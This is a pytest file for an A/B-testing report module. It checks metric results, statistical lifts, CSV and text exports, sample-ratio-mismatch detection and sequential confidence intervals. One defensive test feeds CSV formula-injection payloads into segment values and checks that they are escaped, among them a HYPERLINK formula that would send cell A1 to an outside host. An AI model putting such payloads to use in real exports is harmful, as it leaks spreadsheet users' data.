"""The results document: counts and statistics put together, in JSON and CSV."""

from __future__ import annotations

import csv
import io
import itertools
import random
from pathlib import Path

import pytest

from liftlog.analysis.counting import count, count_daily
from liftlog.analysis.counts import Counts
from liftlog.analysis.sources import connect
from liftlog.report import Arm, build_results, build_timeseries, results_csv, results_text
from liftlog.rules.counting import CountingSpec
from liftlog.stats import MetricKind, SuffStats, fixed_horizon
from tests.analysis.lakes import H, build_lake, conversion, decision
from tests.analysis.test_counting import LEGACY, SPEC, scenario

ARMS = (Arm("301", "control", 5000), Arm("302", "treatment", 5000))
DAY = 86_400_000
DAY0 = 1_699_920_000_000  # midnight UTC


@pytest.fixture(scope="module")
def counts(tmp_path_factory: pytest.TempPathFactory) -> Counts:
    settings = build_lake(tmp_path_factory.mktemp("lake"), scenario(), LEGACY)
    return count(connect(settings.lake_dir), SPEC)


@pytest.mark.parametrize("method", ["sequential", "fixed", "bayesian"])
def test_report_has_every_metric_and_variation(counts: Counts, method: str) -> None:
    doc = build_results(SPEC, ARMS, counts, method=method)
    assert [m["role"] for m in doc["metrics"]] == ["primary", "secondary", "secondary"]
    assert doc["reach"]["variations"]["301"] == {
        "name": "control", "count": 3, "multiple_exposures": 1,
    }  # fmt: skip
    revenue = doc["metrics"][2]["results"]
    assert revenue["302"]["revenue"] == 910 and revenue["302"]["samples"] == 4
    assert revenue["302"]["revenue_per_visitor"] == 910 / 4
    assert revenue["301"]["is_baseline"] and "lift" not in revenue["301"]
    lift = revenue["302"]["lift"]
    if method == "sequential":  # fewer than 100 visitors per arm: no winner yet
        assert lift["status"] == "too_few_samples" and lift["is_significant"] is False
    if method == "bayesian":
        assert 0 <= lift["chance_to_beat_baseline"] <= 1


def test_report_fixed_horizon_equals_the_stats_module(counts: Counts) -> None:
    doc = build_results(SPEC, ARMS, counts, method="fixed")
    got = doc["metrics"][2]["results"]["302"]["lift"]
    per = counts.metrics[2]
    direct = fixed_horizon(
        SuffStats(per["301"].n, per["301"].sum, per["301"].sum_sq, per["301"].nonzero),
        SuffStats(per["302"].n, per["302"].sum, per["302"].sum_sq, per["302"].nonzero),
        kind=MetricKind.SUM,
    )
    assert got["value"] == direct.lift
    assert got["p_value"] == direct.p_value
    # two secondary metrics in one FDR family: q = p * 2 / rank
    assert got["q_value"] is not None and got["q_value"] >= got["p_value"]


def test_report_csv_has_a_row_per_metric_and_variation(counts: Counts) -> None:
    text = results_csv(build_results(SPEC, ARMS, counts))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 6
    assert rows[5]["metric"] == "purchase:revenue" and rows[5]["revenue"] == "910"


def test_report_csv_text_cells_never_start_a_formula(counts: Counts) -> None:
    """Attribute values come from anyone who can send events: opened in a spreadsheet, a cell
    starting with = + - @ (or a tab or CR) would be a formula. Such cells get a leading '."""
    arms = (Arm("301", "=1+1", 5000), Arm("302", "treatment", 5000))
    doc = build_results(SPEC, arms, counts)
    segments = ['=HYPERLINK("http://example.com/?"&A1,"x")', "+1", "-1", "@SUM(A1)", "\tx", "DE"]
    doc["segment"] = "country"
    doc["segments"] = [{"value": v, **build_results(SPEC, arms, counts)} for v in segments]
    rows = list(csv.DictReader(io.StringIO(results_csv(doc))))
    values = [row["segment_value"] for row in rows if row["segment"]][:: len(SPEC.metrics) * 2]
    assert values == ["'" + v for v in segments[:-1]] + ["DE"]
    assert {row["variation"] for row in rows} == {"'=1+1", "treatment"}
    assert rows[0]["segment_value"] == "" and rows[0]["visitors"].isdigit()  # numbers as they are


@pytest.mark.parametrize("method", ["sequential", "bayesian"])
def test_report_text_columns_fit_their_widest_cell(counts: Counts, method: str) -> None:
    arms = (Arm("301", "control", 5000), Arm("302", "a_variation_with_a_long_name", 5000))
    doc = build_results(SPEC, arms, counts, method=method)
    doc["metrics"][2]["results"]["302"]["value"] = 1_199_135  # revenue in cents, printed whole
    tables = results_text(doc).split("\n\n")[1:]
    assert len(tables) == len(SPEC.metrics)
    for table in tables:
        header, *rows = table.splitlines()[1:]
        assert header.split()[-1] == ("P(beat)" if method == "bayesian" else "signif.")
        assert len({len(line) for line in [header, *rows]}) == 1  # one width: aligned
    long_row = tables[2].splitlines()[-1]
    assert long_row.split()[:4] == ["a_variation_with_a_long_name", "4", "4", "1,199,135"]


def test_report_flags_a_sample_ratio_mismatch(counts: Counts) -> None:
    skewed = (Arm("301", "control", 9999), Arm("302", "treatment", 1))
    doc = build_results(SPEC, skewed, counts)
    assert doc["sample_ratio_mismatch"]["is_mismatch"] is True
    assert build_results(SPEC, ARMS, counts)["sample_ratio_mismatch"]["is_mismatch"] is False


def test_report_timeseries_sequential_intervals_only_narrow(tmp_path: Path) -> None:
    rng = random.Random(7)
    visitors = []
    for i in range(600):
        variation = "301" if i % 2 else "302"
        ts = DAY0 + (i // 2 % 6) * DAY + H
        visitors.append(decision(f"u{i}", variation, ts, f"d{i}"))
        if rng.random() < (0.3 if variation == "302" else 0.2):
            visitors.append(conversion(f"u{i}", ts + H, f"c{i}", revenue=rng.randint(1, 100)))
    settings = build_lake(tmp_path, visitors)
    spec = CountingSpec("100", "200", ("301", "302"), ((DAY0, None),), SPEC.metrics)
    daily = count_daily(connect(settings.lake_dir), spec)
    doc = build_timeseries(spec, ARMS, daily)
    points = doc["points"]
    assert len(points) == 6
    assert [p["variations"]["301"]["visitors"] for p in points] == [50 * k for k in range(1, 7)]
    intervals = [
        p["variations"]["302"]["lift"]["confidence_interval"]
        for p in points
        if p["variations"]["302"]["lift"]["confidence_interval"] is not None
    ]
    assert intervals
    for earlier, later in itertools.pairwise(intervals):
        assert earlier[0] <= later[0] and later[1] <= earlier[1]
